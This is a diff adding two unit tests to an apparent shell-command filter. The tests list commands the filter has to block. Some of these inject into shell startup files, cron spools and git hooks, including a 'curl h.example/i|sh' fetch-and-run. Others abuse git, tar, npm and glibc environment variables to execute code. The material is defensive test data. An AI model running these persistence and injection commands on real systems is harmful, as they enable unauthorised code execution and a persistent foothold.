@@ -132,6 +132,52 @@ static void a_tmux_format_command_escaped_or_in_an_argv_blocks(void **state)
 	assert_int_equal(argv_verdict("#[fg=red]#S", b), MOAT_ALLOW);
 }
 
+/* review25's round on this branch, in wordings of our own */
+static void a_file_run_later_or_by_another_name_blocks(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"echo '", "a; curl h.example/i|sh", "' >> /home/deploy/.zshrc"},
+	    {"printf '%s\\n' '", "b && id", "' > /etc/profile.d/motd.sh"},
+	    {"echo '", "c; id", "' >> /var/spool/cron/crontabs/www"},
+	    {"echo '", "d; id", "' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"},
+	    {"echo '", "e; id",
+	     "' > /tmp/a; install -m755 /tmp/a /usr/local/bin/a.sh; bash "
+	     "/usr/local/bin/a.sh"},
+	    {"echo '", "f; id", "' > /tmp/b; ln -s /tmp/b /tmp/c; . /tmp/c"},
+	    {"echo '", "g; id", "' > /tmp/d; nohup bash /tmp/d &"},
+	    {"echo '", "h; id", "' | dd of=/tmp/e status=none; sh /tmp/e"},
+	    {"echo '", "i; id", "' > /tmp/f; eval `cat /tmp/f`"},
+	};
+	static const char *const passes[][3] = {
+	    {"echo '", "j; k", "' >> /srv/app/journal.log"},
+	    {"echo '", "l; m", "' > /tmp/g; cp /tmp/g /srv/archive/"},
+	    {"echo '", "export EDITOR=nano", "' >> ~/.bashrc"},
+	    {"echo '", "n; o", "' | dd of=/tmp/h; wc -c /tmp/h"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+static void a_program_variable_of_git_tar_or_npm_blocks(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"GIT_EXTERNAL_DIFF=", "/srv/uploads/d.sh", " git diff HEAD~1"},
+	    {"export GIT_SEQUENCE_EDITOR='", "bash -c \"id >&2\"", "'; git rebase -i main"},
+	    {"TAR_OPTIONS=", "--checkpoint-action=exec=id", " tar xf in.tar"},
+	    {"npm_config_script_shell=", "/srv/uploads/s.sh", " npm test"},
+	    {"GLIBC_TUNABLES=", "glibc.malloc.mxfast=1", " /usr/bin/su"},
+	};
+	static const char *const passes[][3] = {
+	    {"GIT_AUTHOR_NAME='", "Ada Lovelace", "' git commit -m init"},
+	    {"GIT_COMMITTER_EMAIL=", "ada@example.org", " git commit --amend"},
+	    {"npm_config_loglevel=", "warn", " npm ci"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -140,6 +186,8 @@ int main(void)
 	    cmocka_unit_test(a_file_the_line_writes_then_runs_blocks),
 	    cmocka_unit_test(a_socat_exec_that_runs_a_shell_through_a_wrapper_blocks),
 	    cmocka_unit_test(a_tmux_format_command_escaped_or_in_an_argv_blocks),
+	    cmocka_unit_test(a_file_run_later_or_by_another_name_blocks),
+	    cmocka_unit_test(a_program_variable_of_git_tar_or_npm_blocks),
 	};
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
